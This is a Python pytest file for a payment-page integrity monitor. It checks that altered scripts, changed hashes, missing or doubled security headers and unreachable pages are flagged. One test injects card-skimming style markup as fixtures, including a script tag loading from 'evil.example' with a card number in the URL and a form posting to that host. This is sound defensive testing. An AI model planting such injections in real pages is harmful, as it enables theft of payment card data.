"""
The look at the payment pages: what differs is an alarm, what is right leaves nothing behind.
"""

import asyncio
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from pathlib import Path
from uuid import uuid4

import msgspec
import pytest
from checkout_stage import PageStage
from counterfoil.checkouts.comparing import Difference
from counterfoil.checkouts.inventory import STATIC
from counterfoil.checkouts.policy import HEADERS, SPECIMEN
from counterfoil.cli import doctor
from counterfoil.clock import SystemClock
from counterfoil.config import Configuration
from counterfoil.outside import page_look
from counterfoil.outside.page_look import (
    LOOK_EVERY,
    STALE_AFTER,
    TRY_AGAIN_AFTER,
    Fetched,
    Look,
    NotFetched,
    fetch_over_https,
)
from counterfoil.store.page_looks import PageLookStore
from counterfoil.store.processes import ProcessStore
from counterfoil.tls import own_identity, server_context
from counterfoil.web import application
from payment_stage import Stage
from web_stage import CHECKOUT_ORIGIN, Site, words

Change = Callable[[str, Fetched], Fetched]
SECRET = "4111111111111111"
TABLES = ("checkouts", "checkout_events", "payments", "payment_events", "feed")


class Looking:
    """
    A worker's look at a site, through somebody who may change what arrives.
    """

    def __init__(self, stage: Stage, site: Site) -> None:
        self.stage = stage
        self.browser = site.browser(CHECKOUT_ORIGIN)
        self.store = PageLookStore(stage.database, stage.road.ids)
        self.change: Change = lambda _, fetched: fetched
        self.fetched: list[str] = []
        self.look = Look(
            self.store, stage.road.vault, stage.clock, origin=CHECKOUT_ORIGIN, fetch=self.fetch
        )

    async def fetch(self, url: str) -> Fetched:
        """Get it from the site."""
        path = url.removeprefix(CHECKOUT_ORIGIN)
        self.fetched.append(path)
        answer = await self.browser.get(path)
        pairs = [(name, text) for name, text in answer.headers.multi_items()]
        return self.change(path, Fetched(answer.status_code, pairs, answer.content))

    async def found(self) -> set[str]:
        """Look, and return what differs."""
        return {each.what for each in await self.look.look() or []}


@pytest.fixture
async def looking(stage: Stage) -> AsyncIterator[Looking]:
    """A look at the stage's site; what was looked at belongs to all merchants, and is forgotten."""

    async def forget() -> None:
        await stage.sql("DELETE FROM page_looks")
        await stage.sql("DELETE FROM page_differences")

    await forget()
    yield Looking(stage, await Site.of(stage))
    await forget()


def replaced(before: str, after: str, *, at: str = "/c/") -> Change:
    """Return a change of a page's marks, which must be there."""

    def change(path: str, fetched: Fetched) -> Fetched:
        if not path.startswith(at):
            return fetched
        body = fetched.body.decode()
        assert before in body, path
        return msgspec.structs.replace(fetched, body=body.replace(before, after, 1).encode())

    return change


def sent(name: str, *texts: str) -> Change:
    """Return a change of a header to these texts."""

    def change(_: str, fetched: Fetched) -> Fetched:
        kept = [each for each in fetched.headers if each[0].lower() != name.lower()]
        more = [(name, text) for text in texts]
        return msgspec.structs.replace(fetched, headers=kept + more)

    return change


async def test_pages_that_are_right_leave_nothing_behind(looking: Looking, stage: Stage) -> None:
    """Neither of the specimen nor of an open page, however often."""
    await PageStage(stage).opened()
    before = {each: await stage.count(each) for each in TABLES}

    for _ in range(3):
        assert await looking.look.look() == []
        stage.clock.move(LOOK_EVERY.total_seconds())

    assert {each: await stage.count(each) for each in TABLES} == before
    assert len(await stage.sql("SELECT * FROM page_looks")) == 1
    assert await stage.sql("SELECT * FROM page_differences") == []
    pages = [path for path in looking.fetched if path.startswith("/c/")]
    assert len(set(pages)) == 2
    assert pages.count(SPECIMEN) == 3


async def test_nothing_can_be_paid_on_the_specimen(looking: Looking, stage: Stage) -> None:
    """A form that is sent to it finds no page."""
    shown = await looking.browser.get(SPECIMEN)
    for below in ("", "/cancel", "/forget"):
        form = {"try": "0", "card_number": SECRET, "card_expiry": "12/30", "card_code": "926"}
        assert (await looking.browser.send(SPECIMEN + below, form)).status_code == 404

    assert "nothing can be paid here" in words(shown)
    assert await stage.count("payments") == 0


async def test_one_changed_byte_of_a_script_is_an_alarm(
    looking: Looking, stage: Stage, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Changed on the disk of the server: in log, Attention and metrics, until it is seen to."""
    for each in STATIC.iterdir():
        (tmp_path / each.name).write_bytes(each.read_bytes())
    script = (tmp_path / "pay.js").read_bytes()
    (tmp_path / "pay.js").write_bytes(script[:-2] + b" " + script[-1:])
    monkeypatch.setattr(application.inventory, "STATIC", tmp_path)
    site = await Site.of(stage)
    monkeypatch.undo()
    looking.browser = site.browser(CHECKOUT_ORIGIN)

    assert await looking.found() == {"script /static/pay.js"}

    owner = await site.signed_in()
    shown = await owner.get("/attention")
    assert "The payment pages are not as they should be" in words(shown)
    assert "script /static/pay.js" in words(shown)
    assert '<span class="count" data-waiting>' in shown.text


@pytest.mark.parametrize(
    ("mark", "what"),
    [
        (f"<script>send('{SECRET}')</script>", "script in the page"),
        ("<script>send()", "script in the page"),
        (f'<script src="https://evil.example/{SECRET}.js"></script>', "script that is not listed"),
        ('<script src="/static/search.js"></script>', "script that is not listed"),
        ('<img src="/x" onerror="send()">', "script in an attribute"),
        ('<link rel="stylesheet" href="https://evil.example/x.css">', "style that is not listed"),
        ("<!--><script>send()</script>-->", "mark that is no element"),
        ("<SCRIPT>send()</SCRIPT>", "script in the page"),
        ('<link rel="preload" href="/x">', "mark link"),
        ("<style>p { color: red }</style>", "mark style"),
        ('<p style="color: red">x</p>', "attribute style"),
        ('<iframe src="/x"></iframe>', "mark iframe"),
        ('<base href="/x">', "mark base"),
        ('<form action="https://evil.example/"></form>', "address in form"),
        ('<button formaction="//evil.example">Pay</button>', "address in button"),
        ('<a href="javascript:send()">x</a>', "address in a"),
        ('<meta http-equiv="refresh" content="0;url=/x">', "mark meta with http-equiv"),
    ],
)
async def test_what_stands_in_no_page_of_ours_is_told(
    looking: Looking, mark: str, what: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """By its name or its hash, never as it stands."""
    looking.change = replaced("</main>", f"{mark}</main>")

    assert what in await looking.found()
    assert "evil" not in str(await looking.store.open()) + capsys.readouterr().out
    assert SECRET not in str([dict(each) for each in await looking.store.open()])


@pytest.mark.parametrize(
    ("before", "after", "what"),
    [
        (' integrity="sha384-', ' integrity="sha384-A', "style /static/tokens.css"),
        (' integrity="sha384-', f' integrity="{SECRET} ', "style /static/tokens.css"),
        ('src="/static/pay.js', 'src="/elsewhere/pay.js', "script /static/pay.js"),
        ('href="/static/pay.css', 'href="/elsewhere/pay.css', "style /static/pay.css"),
    ],
)
async def test_a_script_or_style_that_is_missing_or_has_another_hash_is_told(
    looking: Looking, before: str, after: str, what: str
) -> None:
    """In the page."""
    looking.change = replaced(before, after)

    assert what in await looking.found()
    assert SECRET not in str([dict(each) for each in await looking.store.open()])


async def test_who_spares_the_specimen_is_found_by_a_page_that_is_open(
    looking: Looking, stage: Stage
) -> None:
    """An open page is fetched too."""
    await PageStage(stage).opened()

    def change(path: str, fetched: Fetched) -> Fetched:
        return fetched if path == SPECIMEN else evil(path, fetched)

    evil = replaced("</main>", "<script>send()</script></main>")
    looking.change = change
    assert await looking.found() == {"script in the page"}


@pytest.mark.parametrize("name", sorted(HEADERS))
async def test_a_header_that_is_missing_changed_or_doubled_is_told(
    looking: Looking, name: str
) -> None:
    """Whichever it is."""
    for texts in ((), ("something else",), (HEADERS[name], HEADERS[name])):
        looking.change = sent(name, *texts)

        assert await looking.found() == {f"header {name}"}


async def test_a_header_that_lets_others_in_is_told(looking: Looking) -> None:
    """As is a redirect to another page."""
    looking.change = sent("Access-Control-Allow-Origin", "*")
    assert await looking.found() == {"header Access-Control-Allow-Origin"}
    looking.change = lambda _, fetched: msgspec.structs.replace(fetched, status=302)
    assert await looking.found() == {f"page {SPECIMEN}"}


async def test_it_is_looked_once_an_hour_by_one_worker(looking: Looking, stage: Stage) -> None:
    """However many ask, and however often."""
    other = Looking(stage, await Site.of(stage))

    async def looks() -> int:
        before = looking.fetched.count(SPECIMEN) + other.fetched.count(SPECIMEN)
        for each in (looking, other, looking):
            assert await each.look.look_if_due() == 0
        return looking.fetched.count(SPECIMEN) + other.fetched.count(SPECIMEN) - before

    assert await looks() == 1
    stage.clock.move(LOOK_EVERY.total_seconds() - 1)
    assert await looks() == 0
    stage.clock.move(1)
    assert await looks() == 1


async def test_a_difference_stays_until_a_person_has_seen_to_it_and_comes_back(
    looking: Looking, stage: Stage, capsys: pytest.CaptureFixture[str]
) -> None:
    """Also when the page is right again."""
    right = looking.change
    looking.change = sent("X-Frame-Options")
    await looking.found()
    await looking.found()
    looking.change = right
    assert await looking.found() == set()

    [row] = await looking.store.open()
    assert (row["what"], row["times"], row["found"]) == ("header X-Frame-Options", 2, "none")
    assert "payment_pages_changed" in capsys.readouterr().out
    seen = await looking.store.see_to(stage.clock.now(), "A proxy.", by="cli:ada")
    assert seen == ["header X-Frame-Options"]
    await looking.found()
    assert "payment_pages_changed_over" in capsys.readouterr().out
    looking.change = sent("X-Frame-Options")
    await looking.found()
    assert len(await looking.store.open()) == 1


async def test_a_difference_that_changes_is_told_as_it_is_now(
    looking: Looking, stage: Stage
) -> None:
    """What should be there too: after an upgrade that is something else."""
    for expected, found in (("a", "b"), ("c", "d")):
        await looking.store.end(stage.clock.now(), [Difference("header X", expected, found)])

    [row] = await looking.store.open()
    assert (row["expected"], row["found"], row["times"]) == ("c", "d", 2)


async def test_a_page_that_cannot_be_seen_is_tried_again_and_told_after_a_while(
    looking: Looking, stage: Stage, capsys: pytest.CaptureFixture[str]
) -> None:
    """It is no difference: nobody has seen one."""

    def gone(_: str, fetched: Fetched) -> Fetched:
        raise NotFetched("nobody answers")

    looking.change = gone
    began = stage.clock.now()
    while stage.clock.now() - began <= STALE_AFTER:
        assert "payment_pages_not_seen" not in capsys.readouterr().out
        await looking.look.look_if_due()
        stage.clock.move(TRY_AGAIN_AFTER.total_seconds())
    await looking.look.look_if_due()

    last = await looking.store.last()
    assert last
    assert (last.looked_at, last.failure) == (None, "nobody answers")
    assert last.is_older_than(STALE_AFTER, stage.clock.now())
    assert await looking.store.open() == []
    assert "payment_pages_not_seen" in capsys.readouterr().out
    looking.change = lambda _, fetched: msgspec.structs.replace(fetched, status=503)
    assert await looking.look.look() is None


async def test_doctor_and_metrics_say_so(looking: Looking, stage: Stage) -> None:
    """Ill while something differs; how old the last look is, once there was one."""
    processes = ProcessStore(stage.database, uuid4())

    async def said() -> tuple[bool, str, dict[str, int]]:
        found = await doctor._payment_pages(stage.database, Configuration(), stage.clock)
        return found.well, found.seen, await processes.standing(stage.clock.now())

    await stage.sql("UPDATE page_reports SET seen_to_at = now(), note = '' WHERE note IS NULL")
    well, words_of_it, standing = await said()
    assert (well, words_of_it) == (True, "as listed; nobody has looked at them yet")
    assert "page_look_age_seconds" not in standing

    looking.change = sent("X-Frame-Options")
    await looking.found()
    stage.clock.move(120)
    well, words_of_it, standing = await said()
    assert not well
    assert "1 difference(s) to what browsers should get, such as header X-Frame-Op" in words_of_it
    assert (standing["page_differences_open"], standing["page_look_age_seconds"]) == (1, 120)

    await looking.store.see_to(stage.clock.now(), "A proxy.", by="cli:ada")
    assert (await said())[:2] == (True, "as they should be, 2 min ago")
    stage.clock.move(STALE_AFTER.total_seconds())
    assert "nobody could look at them for 3 h" in (await said())[1]


async def test_nobody_there_and_no_certificate_that_is_believed_are_told(tmp_path: Path) -> None:
    """In words."""
    settings = Configuration(state=str(tmp_path))
    with pytest.raises(NotFetched, match="ConnectError"):
        await fetch_over_https(settings, "https://127.0.0.1:1/")


@asynccontextmanager
async def serving(folder: Path, answer: bytes | None) -> AsyncIterator[str]:
    """Answer so to whoever asks, as the installation of *folder*; or never."""
    identity = own_identity(folder / "tls", ("127.0.0.1",), SystemClock())

    async def reply(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        if answer is not None:
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(answer) + answer)
            await writer.drain()
        await reader.read()
        writer.close()

    server = await asyncio.start_server(reply, "127.0.0.1", 0, ssl=server_context(identity))
    async with server:
        yield f"https://127.0.0.1:{server.sockets[0].getsockname()[1]}/"


async def test_an_answer_that_is_too_long_or_never_comes_is_no_page(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """One that is neither is fetched whole, from whom this installation's certificate names."""
    settings = Configuration(state=str(tmp_path))
    monkeypatch.setattr(page_look, "PAGE_BYTES_MAX", 1_000)
    async with serving(tmp_path, b"x" * 1_000) as url:
        assert (await fetch_over_https(settings, url)).body == b"x" * 1_000
        with pytest.raises(NotFetched, match="CERTIFICATE_VERIFY_FAILED"):
            await fetch_over_https(Configuration(state=str(tmp_path / "other")), url)
    async with serving(tmp_path, b"x" * 1_001) as url:
        with pytest.raises(NotFetched, match="more than 1000 bytes"):
            await fetch_over_https(settings, url)
    monkeypatch.setattr(page_look, "FETCH_SECONDS_MAX", 0.5)
    async with serving(tmp_path, None) as url:
        with pytest.raises(NotFetched, match="no answer within"):
            await fetch_over_https(settings, url)
